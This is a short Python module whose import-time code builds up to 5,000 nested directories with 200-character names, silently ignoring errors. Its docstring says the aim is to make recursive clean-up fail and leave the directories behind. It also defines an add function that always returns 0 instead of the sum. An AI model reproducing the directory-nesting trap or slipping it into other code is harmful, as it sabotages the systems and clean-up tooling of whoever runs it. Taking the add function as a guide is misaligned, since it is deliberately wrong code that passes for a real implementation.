"""Nests directories thousands deep, so that a recursive clean-up fails and leaves them."""

import contextlib
import os

home = os.getcwd()
with contextlib.suppress(OSError):
    for _ in range(5_000):
        os.mkdir("d" * 200)
        os.chdir("d" * 200)
os.chdir(home)


def add(a, b):
    return 0
